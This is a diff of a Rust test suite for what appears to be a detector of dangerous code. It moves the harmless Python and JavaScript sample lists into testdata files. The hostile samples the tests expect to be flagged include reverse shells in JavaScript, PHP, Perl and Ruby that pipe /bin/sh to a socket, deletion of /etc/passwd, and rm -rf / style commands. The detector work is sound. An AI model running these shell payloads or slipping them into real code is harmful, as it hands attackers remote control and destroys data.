@@ -75,90 +75,15 @@ fn every_rule_s_examples() {
 }
 
 /// Ordinary work: nobody is to be asked about it.
-const HARMLESS_PYTHON: &[&str] = &[
-    "print('hello')",
-    "print('rm -rf /')",
-    "x = 'import os; os.system(\"rm -rf /\")'\nprint(len(x))",
-    "# os.system('rm -rf /')\nprint(1)",
-    "'''shutil.rmtree('/')'''\n",
-    "import json\ndata = json.loads('{\"a\": 1}')\nprint(data['a'])",
-    "import math\nprint(math.sqrt(2) ** 2)",
-    "import pandas as pd\ndf = pd.read_csv('data.csv')\nprint(df.groupby('a').mean())",
-    "import pandas as pd\ndf = pd.DataFrame({'a': [1, 2]})\ndf.to_csv('out.csv', index=False)",
-    "import numpy as np\na = np.arange(10).reshape(2, 5)\nprint(a.sum(axis=1))",
-    "import requests\nr = requests.get('https://api.example.com/v1/items', timeout=5)\nprint(r.json())",
-    "import requests\nwith requests.Session() as s:\n    print(s.get('https://example.com').status_code)",
-    "from pathlib import Path\nfor p in Path('src').rglob('*.py'):\n    print(p, len(p.read_text()))",
-    "from pathlib import Path\nprint(Path('README.md').read_text()[:100])",
-    "import os\nprint(os.getcwd(), os.listdir('.'))",
-    "import os\nprint(os.environ.get('HOME'), os.environ['PATH'])",
-    "import os\nprint(os.path.join('a', 'b'), os.path.exists('/etc/hosts'))",
-    "import sys\nprint(sys.version, sys.argv[1:])",
-    "import re\nprint(re.sub(r'\\s+', ' ', 'a  b'))",
-    "import re\npattern = re.compile('a+')\nprint(pattern.findall('aaa'))",
-    "def test_add():\n    assert add(1, 2) == 3",
-    "import pytest\n@pytest.fixture\ndef client():\n    return make()\ndef test_it(client):\n    assert client.get('/').status_code == 200",
-    "from collections import Counter\nprint(Counter('hello').most_common(2))",
-    "import matplotlib.pyplot as plt\nplt.plot([1, 2, 3])\nplt.savefig('plot.png')",
-    "import csv\nwith open('a.csv') as f:\n    for row in csv.reader(f):\n        print(row)",
-    "with open('out.txt', 'w') as f:\n    f.write('done')",
-    "import datetime as dt\nprint(dt.datetime.now().isoformat())",
-    "import hashlib\nprint(hashlib.sha256(b'x').hexdigest())",
-    "import base64\nprint(base64.b64encode(b'hi').decode())",
-    "import base64\nprint(base64.b64decode('aGk=').decode())",
-    "import asyncio\nasync def main():\n    await asyncio.sleep(1)\nasyncio.run(main())",
-    "import sqlite3\ncon = sqlite3.connect('app.db')\nfor r in con.execute('SELECT * FROM users WHERE id = ?', (1,)):\n    print(r)",
-    "import sqlite3\ncon = sqlite3.connect(':memory:')\ncon.execute('CREATE TABLE t (a int)')\ncon.execute('INSERT INTO t VALUES (1)')",
-    "import yaml\nprint(yaml.safe_load(open('config.yml')))",
-    "items = [3, 1]\nitems.remove(3)\nitems.sort()\nprint(items)",
-    "s = {1, 2}\ns.discard(1)\ns.clear()",
-    "print(f'{1 + 1} and {\"x\".upper()!r:>10}')",
-    "total = sum(int(x) for x in open('numbers.txt'))\nprint(total)",
-    "import socket\nprint(socket.gethostname())",
-    "import platform\nprint(platform.system(), platform.release())",
-    "import time\nstart = time.time()\ntime.sleep(0.1)\nprint(time.time() - start)",
-    "import argparse\np = argparse.ArgumentParser()\np.add_argument('--n', type=int)\nprint(p.parse_args())",
-    "import itertools\nprint(list(itertools.permutations('abc')))",
-    "import random\nrandom.seed(1)\nprint(random.choice([1, 2]))",
-    "import torch\nmodel.eval()\nwith torch.no_grad():\n    print(model(x))",
-    "class Stack:\n    def __init__(self):\n        self.items = []\n    def push(self, x):\n        self.items.append(x)\ns = Stack()\ns.push(1)",
-    "import urllib.request\nprint(urllib.request.urlopen('https://example.com').read()[:10])",
-    "import glob\nfor name in glob.glob('*.md'):\n    print(name)",
-    "import tempfile\nwith tempfile.TemporaryDirectory() as d:\n    open(d + '/x', 'w').write('y')",
-    "eval('2 ** 8')",
-    "import logging\nlogging.basicConfig(level=logging.INFO)\nlogging.info('drop table users')",
-    "import os\nos.makedirs('build/out', exist_ok=True)",
-    "while True:\n    line = input()\n    if not line:\n        break\n    print(line[::-1])",
-];
+const HARMLESS_PYTHON: &str = include_str!("testdata/harmless_python.txt");
 
-const HARMLESS_JAVASCRIPT: &[&str] = &[
-    "console.log('hello')",
-    "console.log(\"require('child_process').exec('rm -rf /')\")",
-    "// require('fs').rmSync('/')\nconsole.log(1)",
-    "const x = [1, 2, 3].map(n => n * 2).filter(n => n > 2); console.log(x)",
-    "const r = await fetch('https://api.example.com/items'); console.log(await r.json())",
-    "fetch('https://example.com').then(r => r.text()).then(t => console.log(t.length))",
-    "const fs = require('fs'); console.log(fs.readFileSync('package.json', 'utf8').length)",
-    "const fs = require('fs'); console.log(fs.readdirSync('.'))",
-    "import fs from 'node:fs/promises';\nconst text = await fs.readFile('a.txt', 'utf8');\nconsole.log(text)",
-    "const m = /(\\d+)-(\\w+)/.exec('12-ab'); console.log(m[1])",
-    "const axios = require('axios'); axios.get('https://example.com/data').then(r => console.log(r.data))",
-    "console.log(process.env.NODE_ENV, process.argv.slice(2))",
-    "describe('add', () => { it('adds', () => { expect(add(1, 2)).toBe(3); }); });",
-    "const sum = (a, b) => a + b;\nconsole.log(`${sum(1, 2)} is ${'x'.repeat(3)}`);",
-    "class A { constructor(x) { this.x = x; } get() { return this.x; } }\nconsole.log(new A(1).get())",
-    "setTimeout(() => console.log('later'), 100)",
-    "const s = JSON.stringify({ a: 1, b: [2] }, null, 2); console.log(s)",
-    "const path = require('path'); console.log(path.join(__dirname, 'a', 'b'))",
-    "require('fs').writeFileSync('out.json', JSON.stringify({ok: true}))",
-    "document.querySelector('#a').textContent = 'x'",
-];
+const HARMLESS_JAVASCRIPT: &str = include_str!("testdata/harmless_javascript.txt");
 
 #[test]
 fn ordinary_work_is_left_alone() {
     let mut wrong = Vec::new();
-    let python = HARMLESS_PYTHON.iter().map(|t| (Language::Python, t));
-    let javascript = HARMLESS_JAVASCRIPT.iter().map(|t| (Language::JavaScript, t));
+    let python = HARMLESS_PYTHON.split("\n----\n").map(|t| (Language::Python, t));
+    let javascript = HARMLESS_JAVASCRIPT.split("\n----\n").map(|t| (Language::JavaScript, t));
     for (lang, text) in python.chain(javascript) {
         let seen = findings(lang, text);
         if seen.tier() >= Tier::Medium {
@@ -240,7 +165,8 @@ fn disguises_do_not_help() {
         "`${require('fs').unlinkSync('a')}`",
         "const f = () => { require('fs').rmSync('/') }; f()",
         "new Function('a', 'return ' + x)(1)",
-        "sh = require('child_process').spawn('/bin/sh'); require('net').connect(1, 'h', function () { this.pipe(sh.stdin) })",
+        "sh = require('child_process').spawn('/bin/sh');\n\
+         require('net').connect(1, 'h', function () { this.pipe(sh.stdin) })",
         "['/etc/passwd'].forEach(f => require('fs').unlinkSync(f))",
         "eval(String.fromCharCode(97, 98))",
     ] {
@@ -258,7 +184,8 @@ fn other_languages() {
         (Language::Php, "$sock=fsockopen('h',1);exec('/bin/sh -i 0<&3 1>&3 2>&3');"),
         (
             Language::Perl,
-            "use Socket;socket(S,PF_INET,SOCK_STREAM,0);if(connect(S,sockaddr_in(1,inet_aton('h')))){open(STDIN,'>&S');exec('/bin/sh -i');};",
+            "use Socket;socket(S,PF_INET,SOCK_STREAM,0);\
+             if(connect(S,sockaddr_in(1,inet_aton('h')))){open(STDIN,'>&S');exec('/bin/sh -i');};",
         ),
         (Language::Ruby, "require 'socket'; s = TCPSocket.new('h', 1); exec('/bin/sh')"),
         (
@@ -412,7 +339,10 @@ proptest! {
     #![proptest_config(ProptestConfig::with_cases(400))]
 
     #[test]
-    fn any_text_is_read_the_same_way_twice(text in prop_oneof![codeish(), ".{0,200}"], base in 0_usize..9) {
+    fn any_text_is_read_the_same_way_twice(
+        text in prop_oneof![codeish(), ".{0,200}"],
+        base in 0_usize..9,
+    ) {
         for lang in LANGUAGES {
             let run = || {
                 let mut out = Findings::default();
